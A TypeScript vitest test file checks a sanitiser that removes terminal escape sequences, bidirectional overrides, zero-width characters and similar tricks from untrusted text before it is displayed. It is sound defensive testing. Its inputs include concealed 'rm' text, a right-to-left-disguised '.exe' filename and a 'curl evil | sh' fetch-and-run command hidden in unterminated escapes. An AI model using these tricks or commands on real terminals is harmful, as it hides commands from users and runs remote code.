import { expect, test } from "vitest";
import { untrusted } from "./untrusted.ts";

test.each([
  ["conceal", "\u001B[8mrm", "rm"],
  ["link", "\u001B]8;;http://198.51.100.7\u0007rm\u001B]8;;\u0007", "rm"],
  ["C1 control", "\u009B8mrm", "rm"],
  ["newline", "a\nb", "a\uFFFDb"],
  ["clear screen", "\u001B[2J\u001B[Hok", "ok"],
  ["title", "\u001B]0;owned\u001B\\ok", "ok"],
  ["device control string", "\u001BPq#0\u001B\\ok", "ok"],
  ["character set", "\u001B(0lqk", "lqk"],
  ["a sequence made by taking one out", "\u001B\u001B[8m[8mrm", "8mrm"],
  ["right-to-left override", "a\u202Egpj.exe", "a\uFFFDgpj.exe"],
  ["zero width", "r\u200Bm", "r\uFFFDm"],
  ["line separator", "a\u2028b", "a\uFFFDb"],
  ["half a surrogate pair", "a\uD800b", "a\uFFFDb"],
  ["a pile of marks", `e${"\u0301".repeat(50)}!`, `e${"\u0301".repeat(4)}!`],
  ["plain words", "nginx: worker ÄÖ 日本語 👍", "nginx: worker ÄÖ 日本語 👍"],
])("%s does not reach the terminal", (_, text, shown) => {
  expect(untrusted(text)).toBe(shown);
});

test("a sequence that never ends hides nothing after it", () => {
  expect(untrusted("\u001B]0;curl evil | sh")).toContain("curl evil | sh");
  expect(untrusted("\u009Dcurl evil | sh")).toContain("curl evil | sh");
  expect(untrusted("\u001BPcurl evil | sh")).toContain("curl evil | sh");
});

test("cleaning twice changes nothing", () => {
  for (const text of ["\u001B[8mrm", "\u001B\u001B[8m[8mrm", "a\u202Eb", "\u001B]0;x"])
    expect(untrusted(untrusted(text))).toBe(untrusted(text));
});
